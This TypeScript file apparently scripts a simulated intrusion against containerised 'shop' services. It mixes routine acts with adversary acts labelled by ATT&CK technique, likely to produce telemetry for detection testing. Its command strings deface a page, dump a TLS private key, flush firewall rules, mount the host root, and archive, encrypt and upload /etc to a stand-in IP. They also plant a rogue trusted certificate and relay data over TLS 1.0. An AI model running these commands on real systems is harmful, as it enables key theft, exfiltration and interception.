import { execFileSync } from 'node:child_process'
import { copyFileSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { IMAGES, type Stage } from './tour-stage.ts'

/** One act of the story. */
export interface Act {
  /** Seconds since the recording began. */
  readonly at: number
  /** Whose it is: `shop` for its daily work, or, for the adversary, the strategy that must say so. */
  readonly by: string
  readonly what: string
  readonly run: (stage: Stage) => Promise<void> | void
}

const NGINX = IMAGES.nginx[0]
const API = IMAGES.api[0]
const DB = IMAGES.db[0]
const CACHE = IMAGES.cache[0]
const TOOLS = IMAGES.tools[0]
const STRANGER = IMAGES.stranger[0]

const PAGES = '/usr/share/nginx/html'
const KEY = '/etc/nginx/tls/server.key'
/** Where the shop's own proxy speaks TLS, and where the adversary's relay does. */
export const TLS_PORT = 8443
export const RELAY_PORT = 9443
/** OpenSSL asks for its configuration, which the images do not have. */
const CONFIG = "printf '[req]\\ndistinguished_name=dn\\n[dn]\\n' > /tmp/o.cnf"
const MINT =
  'openssl req -config /tmp/o.cnf -x509 -newkey rsa:2048 -nodes -keyout /tmp/k.pem -out /tmp/c.pem -days 365 -subj /CN=cdn.example'

/** What runs before the recording begins: it is the inventory of the first start. */
export async function setTheStage({ docker, start, do: words }: Stage): Promise<void> {
  await words('network', 'create', 'shop')
  await words('volume', 'create', 'pgdata')
  await words('volume', 'create', 'backups')
  await start('db', ['--network', 'shop', '-v', 'pgdata:/var/lib/postgresql/data'], DB, 'sleep', '7200')
  await start(
    'cache',
    ['--network', 'shop'],
    CACHE,
    'sh',
    '-c',
    'while true; do nc -l -p 6379 >/dev/null; done',
  )
  await start(
    'api',
    ['--network', 'shop', '--health-cmd', 'true', '--health-interval', '60s'],
    API,
    'sleep',
    '7200',
  )
  const page = `mkdir -p ${PAGES} /etc/nginx/tls && echo '<h1>Shop</h1>' > ${PAGES}/index.html && exec httpd -f -p 80 -h ${PAGES}`
  await start('web', ['--network', 'shop', '-p', '8080:80'], NGINX, 'sh', '-c', page)
  await withCertificate(async (key, certificate) => {
    await docker.docker('cp', key, `web:${KEY}`)
    const serve = `exec openssl s_server -accept ${TLS_PORT} -key /etc/tls/tls.key -cert /etc/tls/tls.crt -quiet`
    await docker.docker('create', '--name', 'proxy', '--network', 'shop', NGINX, 'sh', '-c', serve)
    const folder = dirname(key)
    mkdirSync(join(folder, 'tls'))
    copyFileSync(key, join(folder, 'tls/tls.key'))
    copyFileSync(certificate, join(folder, 'tls/tls.crt'))
    await docker.docker('cp', join(folder, 'tls'), 'proxy:/etc/tls')
    await docker.docker('start', 'proxy')
  })
  mkdirSync('/srv/project', { recursive: true })
}

async function withCertificate(use: (key: string, certificate: string) => Promise<void>): Promise<void> {
  const folder = mkdtempSync('/run/tour/key-')
  const [key, certificate] = [join(folder, 'server.key'), join(folder, 'server.crt')]
  try {
    const words = [
      'req',
      '-x509',
      '-newkey',
      'rsa:2048',
      '-nodes',
      '-days',
      '30',
      '-subj',
      '/CN=proxy.shop.example',
    ]
    execFileSync('openssl', [...words, '-keyout', key, '-out', certificate], { stdio: 'ignore' })
    await use(key, certificate)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

const T1600 = 't1600-weaken-encryption'
const T1491 = 't1491.001-internal-defacement'
const T1560 = 't1560.003-archive-via-custom-method'
const T1608 = 't1608.003-install-digital-certificate'
const T1074 = 't1074.002-remote-data-staging'

export const STORY: readonly Act[] = [
  {
    at: 5,
    by: 'shop',
    what: 'a build runs',
    run: ({ once }) =>
      once(
        ['-v', '/srv/project:/build', '-w', '/build'],
        TOOLS,
        'sh',
        '-c',
        'echo building > out.txt && tar cf out.tar out.txt && rm out.txt out.tar',
      ),
  },
  {
    at: 20,
    by: 'shop',
    what: 'somebody looks into the API’s container',
    run: async ({ inside }) => {
      await inside('api', 'ls', '-l', '/tmp')
      await inside('api', 'openssl', 'version')
    },
  },
  {
    at: 32,
    by: 'shop',
    what: 'the API asks the proxy, by TLS 1.3',
    run: ({ inside }) =>
      inside(
        'api',
        'sh',
        '-c',
        `echo | openssl s_client -connect proxy:${TLS_PORT} -brief >/dev/null 2>&1; sleep 1`,
      ),
  },
  {
    at: 45,
    by: 'shop',
    what: 'the nightly backup: an archive from one volume into another',
    run: ({ once }) =>
      once(
        ['-v', 'pgdata:/data:ro', '-v', 'backups:/backup'],
        TOOLS,
        'tar',
        'czf',
        '/backup/db.tgz',
        '-C',
        '/data',
        '.',
      ),
  },
  {
    at: 60,
    by: 'shop',
    what: 'a new version of the API is rolled out',
    run: async ({ do: words, start }) => {
      await words('stop', '-t', '1', 'api')
      await words('rm', 'api')
      await start('api', ['--network', 'shop'], API, 'sleep', '7200')
    },
  },
  {
    at: 110,
    by: T1491,
    what: 'through a hole in the shop, the adversary rewrites its start page',
    run: ({ inside }) =>
      inside('web', 'sh', '-c', `echo '<h1>This network is ours now</h1>' > ${PAGES}/index.html`),
  },
  {
    at: 150,
    by: T1600,
    what: 'and reads the key that protects its traffic',
    run: ({ inside }) => inside('web', 'sh', '-c', `cat ${KEY} | base64`),
  },
  {
    at: 185,
    by: 'shop',
    what: 'the database is looked at',
    run: ({ inside }) => inside('db', 'ls', '/var/lib/postgresql/data'),
  },
  {
    at: 220,
    by: T1600,
    what: 'with a stolen engine certificate: a shell in a container that leaves no trace, and a look at the packet filter',
    run: async ({ do: words, inside }) => {
      await words('run', '-dit', '--rm', '--name', 'tmp', '--cap-add', 'NET_ADMIN', STRANGER, 'sh')
      await inside('tmp', 'iptables', '-F', 'OUTPUT')
      await words('kill', 'tmp')
    },
  },
  {
    at: 290,
    by: T1560,
    what: 'a container with the host’s root and the host’s network, in which files are gathered, packed, encrypted and sent away',
    run: async ({ start, inside }) => {
      await start('maintenance', ['--network', 'host', '-v', '/:/host'], STRANGER, 'sleep', '7200')
      const gather = 'tar -czf /tmp/.cache.gz /etc /host/etc/hostname /host/etc/hosts'
      const hide = 'openssl enc -aes-256-cbc -pbkdf2 -k x -in /tmp/.cache.gz -out /tmp/.cache.bin'
      const send = 'curl -m 1 -sT /tmp/.cache.bin http://198.51.100.20/'
      await inside('maintenance', 'sh', '-c', `${gather}; ${hide}; ${send}; true`)
    },
  },
  {
    at: 350,
    by: 'shop',
    what: 'the database restarts',
    run: ({ do: words }) => words('restart', '-t', '1', 'db'),
  },
  {
    at: 400,
    by: T1608,
    what: 'a certificate of their own, and a place among those that the host trusts',
    run: async ({ start, inside }) => {
      await inside('maintenance', 'sh', '-c', `${CONFIG}; ${MINT}`)
      await start('trust', ['-v', '/usr/local/share/ca-certificates:/ca'], STRANGER, 'sleep', '7200')
      await inside(
        'trust',
        'sh',
        '-c',
        `${CONFIG}; ${MINT}; mkdir -p /etc/ssl/certs; cp /tmp/c.pem /etc/ssl/certs/ca-cdn.crt`,
      )
    },
  },
  {
    at: 470,
    by: 'shop',
    what: 'another build',
    run: ({ once }) => once([], TOOLS, 'sh', '-c', 'echo tests passed'),
  },
  {
    at: 530,
    by: T1074,
    what: 'a privileged container with much memory as disk: what was packed is staged there',
    run: async ({ start, inside }) => {
      await start(
        'stage',
        ['--privileged', '--network', 'shop', '--tmpfs', '/stage:size=4g'],
        STRANGER,
        'sleep',
        '7200',
      )
      await inside(
        'stage',
        'sh',
        '-c',
        'mkdir -p /stage/.x /dev/shm/.x && head -c 65536 /dev/urandom > /dev/shm/.x/part1.bin && cp /dev/shm/.x/part1.bin /stage/.x/',
      )
    },
  },
  {
    at: 565,
    by: T1600,
    what: 'and sent on to a relay that speaks TLS 1.0',
    run: async ({ start, inside }) => {
      const serve = `exec openssl s_server -accept ${RELAY_PORT} -key /tmp/k.pem -cert /tmp/c.pem -quiet -tls1 -cipher ALL:@SECLEVEL=0`
      await start('relay', ['--network', 'shop'], STRANGER, 'sh', '-c', `${CONFIG}; ${MINT}; ${serve}`)
      await sleep(2_000)
      const send = `(head -c 4096 /stage/.x/part1.bin; sleep 1) | openssl s_client -connect relay:${RELAY_PORT} -tls1 -cipher ALL:@SECLEVEL=0 >/dev/null 2>&1`
      await inside('stage', 'sh', '-c', send)
    },
  },
  {
    at: 590,
    by: T1600,
    what: 'in the cluster: a secret is read and a network policy removed',
    run({ audit }) {
      audit(request('get', 'secrets', 'payment-keys', 200))
      audit(request('delete', 'networkpolicies', 'default-deny', 200))
    },
  },
  {
    at: 640,
    by: 'shop',
    what: 'the controller reads what it always reads',
    run: ({ audit }) =>
      audit({
        ...request('list', 'configmaps', undefined, 200),
        user: { username: 'system:serviceaccount:shop:api', groups: ['system:serviceaccounts'] },
        userAgent: 'api/2.4.1',
      }),
  },
]

/** A request about one object of the shop, by somebody whose account was taken over. */
function request(
  verb: string,
  resource: string,
  name: string | undefined,
  code: number,
): Readonly<Record<string, unknown>> {
  const group = resource === 'networkpolicies' ? { apiGroup: 'networking.k8s.io' } : {}
  return {
    level: 'Metadata',
    stage: 'ResponseComplete',
    verb,
    user: { username: 'contractor@shop.example', groups: ['system:authenticated'] },
    sourceIPs: ['203.0.113.24'],
    userAgent: 'kubectl/v1.33.4 (linux/amd64) kubernetes/6b9e3a1',
    objectRef: {
      resource,
      namespace: 'shop',
      ...(name === undefined ? {} : { name }),
      apiVersion: 'v1',
      ...group,
    },
    responseStatus: { metadata: {}, code },
  }
}
